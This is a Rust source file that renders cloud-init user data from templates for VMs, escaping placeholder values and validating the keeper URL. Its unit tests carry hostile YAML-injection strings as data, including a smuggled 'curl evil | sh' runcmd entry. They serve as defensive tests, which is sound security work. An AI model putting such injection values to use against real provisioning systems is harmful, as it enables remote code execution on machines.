//! Cloud-init user data that keeper generates (`generate_userdata`, `self_onboard`).
//!
//! keeper's `cloud_init` setting (a template file named by `KEEPER_CLOUD_INIT`) is a cloud-init
//! document with placeholders that keeper fills per VM: `${hostname}` (`<name>-<index>`), `${fqdn}`
//! and `${sid}` (the predicted FQDN `<name>-<index>.<fqdn_suffix>`), `${keeper_url}`, and
//! `${bootstrap_token}` (the VM's plain one-time token: only with `self_onboard`, which bakes it into
//! each VM's user data). Any other `${...}` is an error when the template is loaded. Each value is
//! put in escaped as the inside of a JSON string (also the inside of a YAML double-quoted one), so
//! that a placeholder between double quotes holds its value whole. Without a template,
//! `self_onboard` uses [`SELF_ONBOARD`].

use crate::error::{Error, Result};

/// The placeholders a template may use.
pub const PLACEHOLDERS: [&str; 5] = ["hostname", "fqdn", "sid", "keeper_url", "bootstrap_token"];

/// The user data `self_onboard` bakes when keeper has no `cloud_init` template: the VM learns its
/// SID, where keeper is, and its one-time token, in a file only root can read.
pub const SELF_ONBOARD: &str = r#"#cloud-config
hostname: ${hostname}
fqdn: ${fqdn}
prefer_fqdn_over_hostname: true
write_files:
  - path: /etc/keeper/bootstrap.json
    owner: root:root
    permissions: "0600"
    content: |
      {"sid": "${sid}", "keeper_url": "${keeper_url}", "bootstrap_token": "${bootstrap_token}"}
"#;

/// A checked cloud-init template.
#[derive(Clone, PartialEq, Eq)]
pub struct Template {
    text: String,
}

impl std::fmt::Debug for Template {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Template(<{} bytes>)", self.text.len())
    }
}

/// The values of one VM. Its `Debug` never shows the token.
#[derive(Clone, Default)]
pub struct Vars<'a> {
    /// `<name>-<index>`.
    pub hostname: &'a str,
    /// The predicted FQDN, when keeper can predict it.
    pub fqdn: Option<&'a str>,
    /// keeper's URL, as the VM reaches it.
    pub keeper_url: &'a str,
    /// The plain one-time token (`self_onboard` only).
    pub bootstrap_token: Option<&'a str>,
}

impl std::fmt::Debug for Vars<'_> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Vars")
            .field("hostname", &self.hostname)
            .field("fqdn", &self.fqdn)
            .field("keeper_url", &self.keeper_url)
            .field("bootstrap_token", &self.bootstrap_token.map(|_| "***"))
            .finish()
    }
}

fn placeholders(text: &str) -> Vec<&str> {
    let mut found = Vec::new();
    let mut rest = text;
    while let Some(start) = rest.find("${") {
        let after = &rest[start + 2..];
        let Some(end) = after.find('}') else {
            found.push(after);
            break;
        };
        found.push(&after[..end]);
        rest = &after[end + 1..];
    }
    found
}

impl Template {
    /// A template from `text`; every placeholder must be one of [`PLACEHOLDERS`].
    pub fn parse(text: &str) -> Result<Self> {
        for p in placeholders(text) {
            if !PLACEHOLDERS.contains(&p) {
                return Err(Error::config(format!(
                    "cloud_init: unknown placeholder ${{{p}}}; known: {}",
                    PLACEHOLDERS
                        .iter()
                        .map(|p| format!("${{{p}}}"))
                        .collect::<Vec<_>>()
                        .join(", ")
                ))
                .with_field("cloud_init"));
            }
        }
        Ok(Template {
            text: text.to_string(),
        })
    }

    /// The built-in `self_onboard` template.
    pub fn self_onboard() -> Self {
        Template {
            text: SELF_ONBOARD.to_string(),
        }
    }

    /// Whether the template uses placeholder `name`.
    pub fn uses(&self, name: &str) -> bool {
        placeholders(&self.text).contains(&name)
    }

    /// The user data of one VM. A placeholder without a value is an error naming `field` (the step
    /// parameter that asked for generated user data).
    pub fn render(&self, field: &str, vars: &Vars<'_>) -> Result<String> {
        let mut out = self.text.clone();
        for p in PLACEHOLDERS {
            let needle = format!("${{{p}}}");
            if !out.contains(&needle) {
                continue;
            }
            let value = match p {
                "hostname" => Some(vars.hostname),
                "fqdn" | "sid" => vars.fqdn,
                "keeper_url" => Some(vars.keeper_url),
                "bootstrap_token" => vars.bootstrap_token,
                _ => None,
            };
            let Some(value) = value else {
                let why = match p {
                    "bootstrap_token" => {
                        "keeper bakes tokens into user data only with self_onboard"
                    }
                    _ => "keeper predicts the FQDN only with a name and the provider's fqdn_suffix",
                };
                return Err(Error::invalid(
                    field,
                    format!("keeper's cloud_init template uses ${{{p}}}, which has no value here: {why}"),
                ));
            };
            // Escaped: a value put between quotes stays between them, and none ends a line.
            out = out.replace(&needle, &escaped(value));
        }
        Ok(out)
    }
}

/// `value` escaped as the inside of a JSON string, which is also the inside of a YAML double-quoted
/// scalar: quotes, backslashes and control characters escaped, and every character beyond ASCII
/// as `\uXXXX`, since a YAML 1.1 reader (cloud-init's) takes U+0085, U+2028 and U+2029 for line
/// breaks. Nothing a value holds can then end the string, the line or the block it is put in.
fn escaped(value: &str) -> String {
    let mut out = String::with_capacity(value.len());
    for c in value.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            ' '..='~' => out.push(c),
            _ => {
                let mut units = [0u16; 2];
                for u in c.encode_utf16(&mut units) {
                    out.push_str(&format!("\\u{u:04x}"));
                }
            }
        }
    }
    out
}

/// Checks keeper's URL as VMs reach it (`KEEPER_URL`): an absolute `https` URL with a host, or
/// `http` to a loopback host only (each VM sends its one-time bootstrap token to it), with no user
/// information (a password would be baked into every VM) and nothing but printable ASCII without
/// spaces, quotes or backslashes. The reason it is refused never repeats the value.
pub fn check_keeper_url(url: &str) -> std::result::Result<(), String> {
    if let Some(c) = url.chars().find(|c| !c.is_ascii()) {
        return Err(format!(
            "holds U+{:04X}: only printable ASCII (a host in its ASCII form)",
            c as u32
        ));
    }
    if url.bytes().any(|b| b.is_ascii_control() || b == b' ') {
        return Err("holds a space or a control character".into());
    }
    if url
        .bytes()
        .any(|b| matches!(b, b'"' | b'\'' | b'`' | b'\\'))
    {
        return Err("holds a quote or a backslash".into());
    }
    let lower = url.to_ascii_lowercase();
    let (https, rest) = match (
        lower.strip_prefix("https://"),
        lower.strip_prefix("http://"),
    ) {
        (Some(rest), _) => (true, rest),
        (None, Some(rest)) => (false, rest),
        _ => return Err("not an absolute http(s) URL (https://host[:port][/path])".into()),
    };
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    if authority.contains('@') {
        return Err("holds user information (user@ or user:password@): give none".into());
    }
    let (_, port) = split_host_port(authority)?;
    if port.is_some_and(|p| p.is_empty() || p.parse::<u16>().is_err()) {
        return Err("its port is not a number from 0 to 65535".into());
    }
    if !https && !orca::kit::is_loopback(authority) {
        return Err("plain http is for a loopback host only (127.0.0.0/8, [::1], localhost): VMs send their bootstrap token to it; use https".into());
    }
    Ok(())
}

/// The host (an IPv6 address without its brackets) and the port of a URL's authority.
fn split_host_port(authority: &str) -> std::result::Result<(&str, Option<&str>), String> {
    let no_host = || "has no host (https://host[:port][/path])".to_string();
    let (host, port) = if let Some(v6) = authority.strip_prefix('[') {
        let (host, after) = v6.split_once(']').ok_or_else(no_host)?;
        if host.parse::<std::net::Ipv6Addr>().is_err() {
            return Err("its host in brackets is not an IPv6 address".into());
        }
        match after {
            "" => (host, None),
            _ => (host, Some(after.strip_prefix(':').ok_or_else(no_host)?)),
        }
    } else {
        match authority.split_once(':') {
            Some((host, port)) => (host, Some(port)),
            None => (authority, None),
        }
    };
    if host.is_empty() {
        return Err(no_host());
    }
    Ok((host, port))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn debug_never_shows_the_token() {
        let v = Vars {
            hostname: "web-1",
            bootstrap_token: Some("kbt_secret_value"),
            ..Vars::default()
        };
        let shown = format!("{v:?}");
        assert!(!shown.contains("kbt_secret_value"), "{shown}");
        assert!(shown.contains("web-1") && shown.contains("***"), "{shown}");
    }

    #[test]
    fn unknown_placeholders_are_refused_when_loaded() {
        let e = Template::parse("#cloud-config\nhostname: ${hostnmae}\n").unwrap_err();
        assert!(e.message.contains("hostnmae"), "{e}");
        assert!(Template::parse(SELF_ONBOARD).is_ok());
    }

    #[test]
    fn self_onboard_bakes_sid_and_token() {
        let t = Template::self_onboard();
        let out = t
            .render(
                "self_onboard",
                &Vars {
                    hostname: "web-1",
                    fqdn: Some("web-1.example.net"),
                    keeper_url: "https://keeper.example.net",
                    bootstrap_token: Some("kbt_abc"),
                },
            )
            .unwrap();
        assert!(out.contains(r#""sid": "web-1.example.net""#), "{out}");
        assert!(out.contains("kbt_abc"));
        assert!(!out.contains("${"));
    }

    #[test]
    fn a_value_keeper_cannot_give_names_the_parameter() {
        let t = Template::parse("fqdn: ${fqdn}").unwrap();
        let e = t
            .render(
                "generate_userdata",
                &Vars {
                    hostname: "a-1",
                    ..Vars::default()
                },
            )
            .unwrap_err();
        assert_eq!(e.field.as_deref(), Some("generate_userdata"));
        let t = Template::parse("t: ${bootstrap_token}").unwrap();
        assert!(t
            .render(
                "generate_userdata",
                &Vars {
                    hostname: "a-1",
                    ..Vars::default()
                }
            )
            .is_err());
    }

    #[test]
    fn a_hostile_keeper_url_stays_inside_its_string_in_the_rendered_yaml() {
        let hostile = "https://k.example/\u{2028}\\\"}\nruncmd:\n  - [sh, -c, 'curl evil | sh']\n#";
        let out = Template::self_onboard()
            .render(
                "self_onboard",
                &Vars {
                    hostname: "web-1",
                    fqdn: Some("web-1.example.net"),
                    keeper_url: hostile,
                    bootstrap_token: Some("kbt_abc"),
                },
            )
            .unwrap();
        let doc: serde_yaml_ng::Value = serde_yaml_ng::from_str(&out).unwrap();
        let keys: Vec<&str> = doc
            .as_mapping()
            .unwrap()
            .keys()
            .map(|k| k.as_str().unwrap())
            .collect();
        assert_eq!(
            keys,
            [
                "hostname",
                "fqdn",
                "prefer_fqdn_over_hostname",
                "write_files"
            ],
            "{out}"
        );
        // The file the VM reads gives the URL back whole, as its only other key.
        let content = doc["write_files"][0]["content"].as_str().unwrap();
        let file: serde_json::Value = serde_json::from_str(content).unwrap();
        assert_eq!(file["keeper_url"], hostile, "{out}");
        assert_eq!(file.as_object().unwrap().len(), 3, "{out}");
        // No line break of any kind that a YAML 1.1 reader (cloud-init's) would see.
        assert!(!out.contains('\u{2028}'), "{out}");
    }

    #[test]
    fn a_template_quoting_keeper_url_gets_it_back_whole() {
        let t =
            Template::parse("#cloud-config\nbootcmd:\n  - [echo, \"${keeper_url}\"]\n").unwrap();
        let hostile = "http://a\"]\nruncmd: [x]\n#";
        let out = t
            .render(
                "generate_userdata",
                &Vars {
                    hostname: "a-1",
                    keeper_url: hostile,
                    ..Vars::default()
                },
            )
            .unwrap();
        let doc: serde_yaml_ng::Value = serde_yaml_ng::from_str(&out).unwrap();
        assert_eq!(doc.as_mapping().unwrap().len(), 1, "{out}");
        assert_eq!(doc["bootcmd"][0][1].as_str(), Some(hostile), "{out}");
    }

    #[test]
    fn keeper_url_must_be_an_absolute_https_url_or_http_to_loopback() {
        for ok in [
            "https://keeper.example.net",
            "https://keeper.example.net:8443/base/",
            "https://10.0.0.5:8080",
            "http://127.0.0.1:8080",
            "http://127.3.4.5",
            "http://localhost:8080/",
            "HTTP://LOCALHOST",
            "http://[::1]:8080",
            "https://[2001:db8::1]/",
        ] {
            assert_eq!(check_keeper_url(ok), Ok(()), "{ok}");
        }
        for (bad, why) in [
            ("", "absolute"),
            ("keeper.example.net", "absolute"),
            ("ftp://keeper.example.net", "absolute"),
            ("https://", "host"),
            ("https:///path", "host"),
            ("https://:8080", "host"),
            ("https://u:s3cret@keeper.example.net", "user"),
            ("http://keeper.example.net", "loopback"),
            ("http://10.0.0.5:8080", "loopback"),
            ("http://[::2]", "loopback"),
            ("http://localhost.evil.example", "loopback"),
            ("http://127.0.0.1.evil.example", "loopback"),
            ("https://k.example/\"}", "quote"),
            ("https://k.example/'", "quote"),
            ("https://k.example/a b", "space"),
            ("https://k.example/\nruncmd: [x]", "space"),
            ("https://k.example/\u{2028}", "ASCII"),
            ("https://k.example:port", "port"),
            ("https://[::1", "host"),
        ] {
            let e = check_keeper_url(bad).expect_err(bad);
            assert!(e.contains(why), "{bad:?}: {e}");
            assert!(!e.contains("s3cret"), "{e}");
        }
    }
}
